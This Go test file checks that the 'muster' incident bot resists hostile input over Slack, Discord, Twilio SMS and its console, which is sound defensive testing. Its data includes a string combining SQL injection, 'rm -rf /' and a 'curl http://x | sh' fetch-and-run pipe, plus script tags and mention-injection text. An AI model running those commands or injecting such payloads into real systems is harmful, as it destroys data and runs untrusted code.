package scenario_test

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"net/http"
	"net/http/httptest"
	"net/url"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/muster-ops/muster/bot/console"
	slackbot "github.com/muster-ops/muster/bot/slack"
	"github.com/muster-ops/muster/internal/fakediscord"
	"github.com/muster-ops/muster/internal/fakeslack"
	"github.com/muster-ops/muster/internal/scenario"
	"github.com/muster-ops/muster/store"
)

// People and channels of the example config the hostile cases use.
const (
	amaraSlack   = "U0AMARA"             // harbour guard
	amaraDiscord = "1100000000000000101" // the same guard on Discord
	amaraPhone   = "+447700900101"
	harbourSlack = "C0HARBOUR"
	harbourDisc  = "1200000000000000001"
)

// Injection is what a guard might paste that must not ping anyone or
// turn into markup: Slack and Discord mentions, markdown, a link.
const injection = "<!channel> <!here> @everyone @here <@U123> <@U0BEN|ben> <@&1234567> <@1100000000000000102> *bold* `code` ```block``` [link](http://x) <http://evil.example|click me>"

// sqlShell looks like an attack on a database or a shell. muster has
// neither in its path; it must store the text as typed and do nothing else.
const sqlShell = "'; DROP TABLE incidents;-- $(rm -rf /) `reboot` && curl http://x | sh"

// hostileCase is one hostile input: send it, then check the answer and
// what changed. change is nil when nothing may change at all.
type hostileCase struct {
	name   string
	send   func(t *testing.T, f *scenario.Front) (status int, answer string)
	status int      // the HTTP status wanted
	answer []string // fragments the answer must contain
	not    []string // fragments it must not contain
	change func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot)
}

// Hostile inputs through the real HTTP routes (Slack, Discord, Twilio
// SMS) and the console. Two activations are running, one per site, so a
// guard of one site has tasks of the other to aim at. Each input gets a
// clear answer or a 4xx, and afterwards the records and the fakes show
// that nothing changed that must not.
func TestHostileInputs(t *testing.T) {
	f := scenario.NewFront(t, scenario.Options{})
	f.As("jonah").MustDo("/plan trigger medical-emergency @harbour") // T-1..T-3: amara, hugo, amara
	f.As("jonah").MustDo("/plan trigger medical-emergency @depot")   // T-4..T-6: elena, hugo, dev
	f.Settle()

	cases := []hostileCase{
		// ---- Slack
		{name: "slack: oversized body", status: http.StatusUnauthorized,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				form := f.SlashForm(amaraSlack, harbourSlack, "/incident", "raise fire @harbour "+strings.Repeat("x", 70<<10))
				return serve(f, f.SlackRequest("/slack/commands", []byte(form.Encode()), scenario.FormType))
			}},
		{name: "slack: text over the command limit", status: http.StatusOK, answer: []string{"characters", "at most 2000"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return slackSlash(f, amaraSlack, harbourSlack, "/incident", "raise fire @harbour "+strings.Repeat("smoke ", 417))
			}},
		{name: "slack: invalid UTF-8 and NUL bytes", status: http.StatusOK, answer: []string{"INC-1 raised"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return slackSlash(f, amaraSlack, harbourSlack, "/incident", "raise suspicious-activity @harbour van\x00 parked \xff\xfe by the \x01gate")
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				oneMoreIncident(t, before, after)
				inc := incident(t, f, 1)
				if !utf8.ValidString(inc.Text) || strings.ContainsAny(inc.Text, "\x00\x01") || !strings.Contains(inc.Text, "parked") {
					t.Errorf("stored text %q: want valid UTF-8 without control bytes", inc.Text)
				}
				for _, p := range f.SlackFake.Posts()[before.SlackPosts:] {
					if !utf8.ValidString(p.Text) || !utf8.Valid(p.Blocks) || strings.Contains(p.Text+string(p.Blocks), "\x00") {
						t.Errorf("Slack post carries invalid text: %q", p.Text)
					}
				}
			}},
		{name: "slack: mention and markdown injection", status: http.StatusOK,
			answer: []string{"INC-2 raised", "&lt;!channel&gt;", "&lt;@U123&gt;"}, not: []string{"<!channel>", "<@U123>", "<!here>"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return slackSlash(f, amaraSlack, harbourSlack, "/incident", "raise other @harbour "+injection)
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				oneMoreIncident(t, before, after)
				if inc := incident(t, f, 2); !strings.Contains(inc.Text, "<!channel>") {
					t.Errorf("stored text %q: want it as typed", inc.Text)
				}
				noLiveMentions(t, f, before)
			}},
		{name: "slack: SQL- and shell-looking text", status: http.StatusOK, answer: []string{"INC-3 raised"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return slackSlash(f, amaraSlack, harbourSlack, "/incident", "raise other @harbour "+sqlShell)
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				oneMoreIncident(t, before, after)
				// The text is kept as typed, but for its leading
				// apostrophe: commands.Tokenize takes it for an unclosed
				// quote (reported; commands is not this test's).
				if inc := incident(t, f, 3); !strings.HasSuffix(sqlShell, inc.Text) || !strings.Contains(inc.Text, "DROP TABLE incidents;-- $(rm -rf /)") {
					t.Errorf("stored text %q, want %q", inc.Text, sqlShell)
				}
				for n := int64(1); n <= 2; n++ {
					incident(t, f, n) // the earlier ones are still there
				}
			}},
		{name: "slack: the same signed request twice", status: http.StatusUnauthorized,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				body := []byte(f.SlashForm(amaraSlack, harbourSlack, "/incident", "raise intrusion @harbour fence cut").Encode())
				r1 := f.SlackRequest("/slack/commands", body, scenario.FormType)
				r2 := f.SlackRequest("/slack/commands", body, scenario.FormType)
				// The copy comes at once: Slack's window is five minutes
				// (bot/slack tests a copy four minutes on), and moving this
				// clock would run the escalations.
				if status, answer := serve(f, r1); status != http.StatusOK || !strings.Contains(answer, "INC-4 raised") {
					t.Errorf("first copy: %d %s", status, answer)
				}
				return serve(f, r2)
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				oneMoreIncident(t, before, after) // the first copy's, and only it
			}},
		{name: "slack: a signed button click twice", status: http.StatusUnauthorized,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				body := clickBody(f, amaraSlack, harbourSlack, slackbot.ActionAck, "T-1")
				r1 := f.SlackRequest("/slack/interactions", body, scenario.FormType)
				r2 := f.SlackRequest("/slack/interactions", body, scenario.FormType)
				if status, _ := serve(f, r1); status != http.StatusOK {
					t.Errorf("first click: %d", status)
				}
				waitResponse(t, f, "T-1 acknowledged")
				return serve(f, r2)
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				if after.Tasks["T-1"] != store.TaskAcknowledged || after.Incidents != before.Incidents || after.SMS != before.SMS {
					t.Errorf("after the first click: %+v, want T-1 acknowledged and nothing else", after)
				}
				acks := 0
				for _, e := range timeline(t, f, 1) {
					if strings.HasPrefix(e, "ack:") {
						acks++
					}
				}
				if acks != 1 {
					t.Errorf("T-1's timeline has %d acknowledgements, want 1:\n%s", acks, strings.Join(timeline(t, f, 1), "\n"))
				}
			}},
		{name: "slack: signed JSON instead of a form", status: http.StatusUnsupportedMediaType,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				body, _ := json.Marshal(map[string]string{"command": "/incident", "text": "raise fire @harbour smoke", "user_id": amaraSlack})
				return serve(f, f.SlackRequest("/slack/commands", body, "application/json"))
			}},
		{name: "slack: unsigned request", status: http.StatusUnauthorized,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				r := httptest.NewRequest(http.MethodPost, "/slack/commands",
					strings.NewReader(f.SlashForm(amaraSlack, harbourSlack, "/incident", "raise fire @harbour smoke").Encode()))
				r.Header.Set("Content-Type", scenario.FormType)
				return serve(f, r)
			}},
		{name: "slack: interaction payload that is not JSON", status: http.StatusBadRequest,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				body := []byte(url.Values{"payload": {"{\"type\":\"block_actions\",\x00 '; DROP"}}.Encode())
				return serve(f, f.SlackRequest("/slack/interactions", body, scenario.FormType))
			}},
		{name: "slack: button value muster never wrote", status: http.StatusOK,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.SlackRequest("/slack/interactions", clickBody(f, amaraSlack, harbourSlack, slackbot.ActionAck, "T-6; DROP TABLE"), scenario.FormType))
			}},
		{name: "slack: unknown user", status: http.StatusOK, answer: []string{slackbot.NotOnRoster},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return slackSlash(f, "U0STRANGER", harbourSlack, "/incident", "raise fire @harbour smoke")
			}},
		{name: "slack: harbour guard acks a depot task", status: http.StatusOK,
			answer: []string{"T-6 is assigned to Dev Patel", "only ack your own tasks"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return slackSlash(f, amaraSlack, harbourSlack, "/ack", "T-6")
			}},
		{name: "slack: harbour guard clicks Acknowledge on a depot task", status: http.StatusOK,
			answer: []string{"T-6 is assigned to Dev Patel"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				status, _ := serve(f, f.SlackRequest("/slack/interactions", clickBody(f, amaraSlack, harbourSlack, slackbot.ActionAck, "T-6"), scenario.FormType))
				return status, waitResponse(t, f, "T-6")
			}},

		// ---- Discord
		{name: "discord: oversized body", status: http.StatusRequestEntityTooLarge,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.DiscordRequest(discordSlash(f, amaraDiscord, harbourDisc, "incident", "raise",
					"category", "fire", "text", strings.Repeat("x", 70<<10))))
			}},
		{name: "discord: text over the command limit", status: http.StatusOK, answer: []string{"at most 2000"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.DiscordRequest(discordSlash(f, amaraDiscord, harbourDisc, "incident", "raise",
					"category", "fire", "text", strings.Repeat("smoke ", 400))))
			}},
		{name: "discord: malformed JSON", status: http.StatusBadRequest,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.DiscordRequest([]byte(`{"type":2,"data":{"name":"incident"`)))
			}},
		{name: "discord: a form instead of JSON", status: http.StatusBadRequest,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				r := f.DiscordRequest([]byte("type=2&data=incident"))
				r.Header.Set("Content-Type", scenario.FormType)
				return serve(f, r)
			}},
		{name: "discord: unsigned", status: http.StatusUnauthorized,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				r := f.DiscordRequest(discordSlash(f, amaraDiscord, harbourDisc, "incident", "raise", "category", "fire", "text", "smoke"))
				r.Header.Del("X-Signature-Ed25519")
				return serve(f, r)
			}},
		{name: "discord: NUL bytes and mention injection", status: http.StatusOK,
			answer: []string{"INC-5 raised", `"parse":[]`}, not: []string{`"parse":["everyone"`, `\u0000`},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.DiscordRequest(discordSlash(f, amaraDiscord, harbourDisc, "incident", "raise",
					"category", "other", "text", "nul\x00here "+injection)))
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				oneMoreIncident(t, before, after)
				if inc := incident(t, f, 5); strings.Contains(inc.Text, "\x00") || !strings.Contains(inc.Text, "@everyone") {
					t.Errorf("stored text %q: want it as typed, NUL replaced", inc.Text)
				}
				noLiveMentions(t, f, before)
			}},
		{name: "discord: the same signed interaction twice", status: http.StatusUnauthorized,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				body := discordSlash(f, amaraDiscord, harbourDisc, "incident", "raise", "category", "intrusion", "text", "gate forced")
				if status, answer := serve(f, f.DiscordRequest(body)); status != http.StatusOK || !strings.Contains(answer, "INC-6 raised") {
					t.Errorf("first copy: %d %s", status, answer)
				}
				f.Settle()
				return serve(f, f.DiscordRequest(body))
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				oneMoreIncident(t, before, after)
			}},
		{name: "discord: unknown user", status: http.StatusOK, answer: []string{"not on this organization's roster"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.DiscordRequest(discordSlash(f, "1999999999999999999", harbourDisc, "incident", "raise", "category", "fire", "text", "smoke")))
			}},
		{name: "discord: harbour guard acks a depot task", status: http.StatusOK, answer: []string{"T-6 is assigned to Dev Patel"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.DiscordRequest(discordSlash(f, amaraDiscord, harbourDisc, "ack", "", "task", "T-6")))
			}},
		{name: "discord: harbour guard presses Acknowledge on a depot task", status: http.StatusOK, answer: []string{"T-6 is assigned to Dev Patel"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.DiscordRequest(discordButton(f, amaraDiscord, harbourDisc, "ack:T-6")))
			}},

		// ---- Twilio SMS
		{name: "sms: oversized body", status: http.StatusForbidden,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS(amaraPhone, "ACK "+strings.Repeat("x", 70<<10))))
			}},
		{name: "sms: text over the command limit", status: http.StatusOK, answer: []string{"at most 2000"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS(amaraPhone, "ACK "+strings.Repeat("x", 2500))))
			}},
		{name: "sms: unsigned", status: http.StatusForbidden,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				r := f.TwilioRequest("/twilio/sms", f.InboundSMS(amaraPhone, "ACK 3"))
				r.Header.Del("X-Twilio-Signature")
				return serve(f, r)
			}},
		{name: "sms: JSON instead of a form", status: http.StatusForbidden,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				r := f.TwilioRequest("/twilio/sms", nil)
				body := []byte(`{"From":"` + amaraPhone + `","Body":"ACK 3"}`)
				r.Body, r.ContentLength = httpBody(body), int64(len(body))
				r.Header.Set("Content-Type", "application/json")
				return serve(f, r)
			}},
		{name: "sms: NUL bytes and invalid UTF-8", status: http.StatusOK, answer: []string{"muster understands"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS(amaraPhone, "\x00AC\xffK 3\x00")))
			}},
		{name: "sms: mention and markup injection", status: http.StatusOK, answer: []string{"muster understands"}, not: []string{"<!channel>"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS(amaraPhone, "DROP "+injection)))
			}},
		{name: "sms: markup echoed in the answer", status: http.StatusOK, answer: []string{"&lt;/Message&gt;"}, not: []string{"<b>"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS(amaraPhone, "ACK T-</Message><b>")))
			}},
		{name: "sms: SQL- and shell-looking text", status: http.StatusOK, answer: []string{"muster understands"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS(amaraPhone, sqlShell)))
			}},
		{name: "sms: unknown number", status: http.StatusOK, answer: []string{"not on the muster roster"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS("+15005550006", "ACK 6")))
			}},
		{name: "sms: harbour guard acks a depot task", status: http.StatusOK,
			answer: []string{"T-6 is not assigned to you", "only ACK your own tasks"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS(amaraPhone, "ACK 6")))
			}},
		// A Twilio retry (same MessageSid) does nothing and sends no second reply.
		{name: "sms: the same signed webhook twice", status: http.StatusOK, answer: []string{"<Response/>"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				form := f.InboundSMS(amaraPhone, "ACK 3")
				if status, answer := serve(f, f.TwilioRequest("/twilio/sms", form)); status != http.StatusOK || !strings.Contains(answer, "T-3 acknowledged") {
					t.Errorf("first copy: %d %s", status, answer)
				}
				return serve(f, f.TwilioRequest("/twilio/sms", form))
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				want := maps(before.Tasks)
				want["T-3"] = store.TaskAcknowledged
				if !reflect.DeepEqual(after.Tasks, want) || after.Incidents != before.Incidents || after.SMS != before.SMS {
					t.Errorf("after: %+v, want only T-3 acknowledged", after)
				}
			}},

		// ---- console
		{name: "console: NUL bytes and invalid UTF-8", answer: []string{"Unknown command"},
			send: consoleLine("amara", "/\x00in\xffcident raise fire @harbour smoke")},
		{name: "console: text over the command limit", answer: []string{"at most 2000"},
			send: consoleLine("amara", "/incident raise fire @harbour "+strings.Repeat("x", 2001))},
		{name: "console: SQL- and shell-looking text", answer: []string{"Usage: /incident show INC-n"},
			send: consoleLine("amara", "/incident show INC-1'; DROP TABLE incidents;--")},
		{name: "console: shell substitution as a command", answer: []string{"Unknown command"},
			send: consoleLine("amara", "$(rm -rf /)")},
		{name: "console: harbour guard acks a depot task", answer: []string{"T-6 is assigned to Dev Patel"},
			send: consoleLine("amara", "/ack T-6")},
		{name: "console: a person who is not in the config", answer: []string{`No person "mallory"`},
			send: consoleLine("amara", ":as mallory")},

		// ---- roll call (R-1 at Harbour Point: amara, farid, hugo, jonah)
		{name: "slack: roll call started with markup in its note", status: http.StatusOK,
			answer: []string{"Roll call R-1 at Harbour Point HQ started", "&lt;!channel&gt;"}, not: []string{"<!channel>"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return slackSlash(f, "U0JONAH", harbourSlack, "/rollcall", "start @harbour "+injection)
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				if len(after.Tasks) != len(before.Tasks)+4 {
					t.Errorf("roll call asked %d people, want 4", len(after.Tasks)-len(before.Tasks))
				}
				noLiveMentions(t, f, before)
			}},
		{name: "slack: a guard starts a roll call", status: http.StatusOK, answer: []string{"supervisor, control or a coordinator"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return slackSlash(f, amaraSlack, harbourSlack, "/rollcall", "start @harbour")
			}},
		{name: "slack: Safe button value muster never wrote", status: http.StatusOK,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.SlackRequest("/slack/interactions", clickBody(f, amaraSlack, harbourSlack, slackbot.ActionSafe, "R-1<script>"), scenario.FormType))
			}},
		{name: "console: SQL after a roll-call id", answer: []string{"Usage: /rollcall safe [R-n]"},
			send: consoleLine("amara", "/rollcall safe R-1'; DROP TABLE incidents;--")},
		{name: "console: SAFE for a roll call that does not exist", answer: []string{"There is no R-99"},
			send: consoleLine("amara", "/rollcall safe R-99")},
		{name: "sms: HELP with markup in a roll call", status: http.StatusOK,
			answer: []string{"your call for help in roll call R-1", "INC-"}, not: []string{"<!channel>"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS(amaraPhone, "HELP "+injection)))
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				if after.Incidents != before.Incidents+1 || after.Activations != before.Activations {
					t.Errorf("%d incidents, %d activations after a HELP, want one more incident", after.Incidents, after.Activations)
				}
				want := maps(before.Tasks)
				want["T-7"] = store.AnswerHelp // Amara's question in R-1
				if !reflect.DeepEqual(after.Tasks, want) {
					t.Errorf("tasks after a HELP: %v, want only T-7 help", after.Tasks)
				}
				if inc := incident(t, f, int64(after.Incidents)); inc.Severity != "sev1" || !strings.Contains(inc.Text, "<!channel>") {
					t.Errorf("help incident %+v: want sev1 with the text as typed", inc)
				}
				noLiveMentions(t, f, before)
			}},
		{name: "sms: SAFE twice", status: http.StatusOK, answer: []string{"already answered SAFE"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				form := f.InboundSMS("+447700900108", "SAFE R-1")
				if status, answer := serve(f, f.TwilioRequest("/twilio/sms", form)); status != http.StatusOK || !strings.Contains(answer, "recorded SAFE") {
					t.Errorf("first SAFE: %d %s", status, answer)
				}
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS("+447700900108", "SAFE")))
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				if after.Incidents != before.Incidents || after.Activations != before.Activations {
					t.Errorf("a SAFE changed incidents or activations: %+v", after)
				}
			}},
		// ---- lone-worker check-ins (Hugo, in control at Harbour Point)
		{name: "console: a check-in interval that is shell text", answer: []string{"is not a check-in interval", "/checkin start 15m"},
			send: consoleLine("hugo", "/checkin start $(reboot) "+sqlShell)},
		{name: "console: a session length that is SQL", answer: []string{"is not a session length"},
			send: consoleLine("hugo", "/checkin start 15m for 1h';DROP")},
		{name: "sms: OK from someone with no check-ins", status: http.StatusOK, answer: []string{"no check-ins running", "/checkin start"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.TwilioRequest("/twilio/sms", f.InboundSMS("+447700900108", "OK")))
			}},
		{name: "slack: check-ins with markup in the note", status: http.StatusOK,
			answer: []string{"Check-ins L-1 started for Hugo Brennan"}, not: []string{"<!channel>"},
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return slackSlash(f, "U0HUGO", harbourSlack, "/checkin", "start 15m @harbour "+injection)
			},
			change: func(t *testing.T, f *scenario.Front, before, after scenario.Snapshot) {
				if len(after.Tasks) != len(before.Tasks)+1 || after.Incidents != before.Incidents {
					t.Errorf("check-ins wrote %d tasks and %d incidents, want one session", len(after.Tasks)-len(before.Tasks), after.Incidents-before.Incidents)
				}
				// The note is kept as typed: it goes out only escaped, in
				// a missed check-in's escalation.
				if ws, err := f.Store.ActiveLoneWorkers(context.Background()); err != nil || len(ws) != 1 || ws[0].Note != injection {
					t.Errorf("lone workers after the start: %+v, %v", ws, err)
				}
			}},
		{name: "slack: Check in button value muster never wrote", status: http.StatusOK,
			send: func(t *testing.T, f *scenario.Front) (int, string) {
				return serve(f, f.SlackRequest("/slack/interactions", clickBody(f, "U0HUGO", harbourSlack, slackbot.ActionCheckin, "L-1<script>"), scenario.FormType))
			}},
		{name: "console: notified with an obligation that is markup", answer: []string{"INC-1 has no obligation", "/incident show INC-1"},
			send: consoleLine("amara", "/incident notified INC-1 <script>alert(1)</script> "+injection)},
		{name: "console: send to a contact that is shell text", answer: []string{"Unknown contact", "police"},
			send: consoleLine("hugo", "/incident send INC-1 $(reboot) "+sqlShell)},
		{name: "console: a severity that is SQL", answer: []string{"sev1 to sev4"},
			send: consoleLine("hugo", "/incident severity INC-1 sev1';DROP")},
	}

	for _, tc := range cases {
		before := f.Snapshot()
		status, answer := tc.send(t, f)
		f.Settle()
		after := f.Snapshot()
		ok := true
		if tc.status != 0 && status != tc.status {
			t.Errorf("%s: HTTP %d, want %d; answer %q", tc.name, status, tc.status, clip(answer))
			ok = false
		}
		if status >= 500 {
			t.Errorf("%s: HTTP %d", tc.name, status)
		}
		for _, fr := range tc.answer {
			if !strings.Contains(answer, fr) {
				t.Errorf("%s: answer %q lacks %q", tc.name, clip(answer), fr)
				ok = false
			}
		}
		for _, fr := range tc.not {
			if strings.Contains(answer, fr) {
				t.Errorf("%s: answer %q contains %q", tc.name, clip(answer), fr)
				ok = false
			}
		}
		if strings.HasPrefix(tc.name, "sms:") && status == http.StatusOK {
			validTwiML(t, tc.name, answer)
		}
		if tc.change != nil {
			tc.change(t, f, before, after)
		} else if !reflect.DeepEqual(before, after) {
			t.Errorf("%s changed what it must not:\nbefore %+v\nafter  %+v", tc.name, before, after)
			ok = false
		}
		if ok {
			t.Logf("ok  %-60s HTTP %3d  %s", tc.name, status, clip(answer))
		}
	}
}

// serve answers r and returns the status and the body.
func serve(f *scenario.Front, r *http.Request) (int, string) {
	w := f.Serve(r)
	return w.Code, w.Body.String()
}

func httpBody(b []byte) *readCloser { return &readCloser{bytes.NewReader(b)} }

type readCloser struct{ *bytes.Reader }

func (readCloser) Close() error { return nil }

// slackSlash sends a signed slash command and returns its answer's text.
func slackSlash(f *scenario.Front, user, channel, command, text string) (int, string) {
	status, body := serve(f, f.SlackRequest("/slack/commands", []byte(f.SlashForm(user, channel, command, text).Encode()), scenario.FormType))
	if status != http.StatusOK {
		return status, body
	}
	var r slackbot.Response
	if err := json.Unmarshal([]byte(body), &r); err != nil {
		return status, "undecodable answer: " + body
	}
	return status, r.Text
}

// clickBody is a block_actions payload, as Slack posts it, for a button
// press answered through a fresh response_url.
func clickBody(f *scenario.Front, user, channel, actionID, value string) []byte {
	payload, _ := json.Marshal(map[string]any{
		"type": "block_actions", "user": map[string]any{"id": user}, "channel": map[string]any{"id": channel},
		"response_url": f.SlackFake.ResponseURL(f.SlackAPI.URL), "trigger_id": strconv.FormatInt(f.Next(), 10),
		"actions": []map[string]any{{"type": "button", "action_id": actionID, "value": value, "block_id": "actions"}},
	})
	return []byte(url.Values{"payload": {string(payload)}}.Encode())
}

// waitResponse waits for an answer posted to a response_url containing
// fragment and returns its text.
func waitResponse(t *testing.T, f *scenario.Front, fragment string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	r, err := f.SlackFake.WaitForResponse(ctx, func(r fakeslack.Response) bool { return strings.Contains(r.Text, fragment) })
	if err != nil {
		t.Errorf("no response_url answer containing %q: %v", fragment, err)
		return ""
	}
	return r.Text
}

// discordSlash is a signed-to-be application command interaction; kv are
// option name and value pairs.
func discordSlash(f *scenario.Front, user, channel, name, sub string, kv ...string) []byte {
	var opts []map[string]any
	for i := 0; i+1 < len(kv); i += 2 {
		opts = append(opts, map[string]any{"type": 3, "name": kv[i], "value": kv[i+1]})
	}
	options := opts
	if sub != "" {
		options = []map[string]any{{"type": 1, "name": sub, "options": opts}}
	}
	return discordInteraction(f, user, channel, 2, map[string]any{"id": "9001", "name": name, "type": 1, "options": options}, nil)
}

// discordButton is a button press on a message in channel.
func discordButton(f *scenario.Front, user, channel, customID string) []byte {
	return discordInteraction(f, user, channel, 3, map[string]any{"custom_id": customID, "component_type": 2},
		map[string]any{"id": "1300000000000000999", "channel_id": channel, "content": ""})
}

func discordInteraction(f *scenario.Front, user, channel string, typ int, data, message map[string]any) []byte {
	n := f.Next()
	in := map[string]any{
		"id": strconv.FormatInt(7000+n, 10), "application_id": scenario.DiscordAppID, "type": typ,
		"token": "hostile-" + strconv.FormatInt(n, 10), "version": 1, "channel_id": channel, "data": data,
		"guild_id": scenario.DiscordGuild, "member": map[string]any{"user": map[string]any{"id": user, "username": "u" + user}},
	}
	if message != nil {
		in["message"] = message
	}
	b, _ := json.Marshal(in)
	return b
}

// consoleLine types line in a console as person and returns what it printed.
func consoleLine(person, line string) func(t *testing.T, f *scenario.Front) (int, string) {
	return func(t *testing.T, f *scenario.Front) (int, string) {
		var out bytes.Buffer
		c, err := console.New(console.Options{Service: f.Svc, As: person, Out: &out})
		if err != nil {
			t.Fatal(err)
		}
		c.Line(context.Background(), line)
		return 0, out.String()
	}
}

func incident(t *testing.T, f *scenario.Front, n int64) *store.Incident {
	t.Helper()
	inc, err := f.Store.Incident(context.Background(), n)
	if err != nil {
		t.Fatalf("INC-%d: %v", n, err)
	}
	return inc
}

func timeline(t *testing.T, f *scenario.Front, task int64) []string {
	t.Helper()
	tl, err := f.Store.TaskTimeline(context.Background(), task)
	if err != nil {
		t.Fatal(err)
	}
	out := make([]string, len(tl))
	for i, e := range tl {
		out[i] = e.Kind + ": " + e.Text
	}
	return out
}

// oneMoreIncident checks that exactly one incident was added and no task
// or SMS moved.
func oneMoreIncident(t *testing.T, before, after scenario.Snapshot) {
	t.Helper()
	if after.Incidents != before.Incidents+1 {
		t.Errorf("%d incidents, want %d", after.Incidents, before.Incidents+1)
	}
	if !reflect.DeepEqual(after.Tasks, before.Tasks) || after.Activations != before.Activations || after.SMS != before.SMS || after.Calls != before.Calls {
		t.Errorf("tasks, activations or SMS moved:\nbefore %+v\nafter  %+v", before, after)
	}
}

// noLiveMentions checks every Slack post and Discord message made since
// before: nothing a person typed pings anyone.
func noLiveMentions(t *testing.T, f *scenario.Front, before scenario.Snapshot) {
	t.Helper()
	posts := f.SlackFake.Posts()[before.SlackPosts:]
	if len(posts) == 0 {
		t.Error("no Slack post to check")
	}
	for _, p := range posts {
		for _, m := range fakeslack.LiveMentions(p) {
			t.Errorf("Slack %s in %s pings %s", p.Method, p.Channel, m)
		}
	}
	n := 0
	for _, m := range f.DiscordFake.Messages() {
		if m.InteractionToken != "" {
			continue
		}
		if n++; n <= before.Discord {
			continue
		}
		checkAllowedMentions(t, m)
	}
	if n == before.Discord {
		t.Error("no Discord message to check")
	}
}

// checkAllowedMentions: a Discord message parses no mention from its text
// and names no role; users only when muster means them (none here).
func checkAllowedMentions(t *testing.T, m fakediscord.Message) {
	t.Helper()
	var am struct {
		Parse *[]string `json:"parse"`
		Roles []string  `json:"roles"`
		Users []string  `json:"users"`
	}
	if err := json.Unmarshal(m.AllowedMentions, &am); err != nil || am.Parse == nil || len(*am.Parse) != 0 || len(am.Roles) != 0 || len(am.Users) != 0 {
		t.Errorf("Discord message %s in %s: allowed_mentions %s, want an empty parse list and nobody named", m.ID, m.ChannelID, m.AllowedMentions)
	}
}

// validTwiML checks that an SMS answer is one well-formed TwiML document.
func validTwiML(t *testing.T, name, body string) {
	t.Helper()
	var doc struct {
		XMLName xml.Name `xml:"Response"`
		Message []string `xml:"Message"`
	}
	if err := xml.Unmarshal([]byte(body), &doc); err != nil {
		t.Errorf("%s: answer is not well-formed TwiML: %v\n%s", name, err, clip(body))
	}
}

func maps(m map[string]string) map[string]string {
	out := make(map[string]string, len(m))
	for k, v := range m {
		out[k] = v
	}
	return out
}

func clip(s string) string {
	s = strings.ReplaceAll(s, "\n", " ")
	if len(s) > 160 {
		return s[:160] + "…"
	}
	return s
}
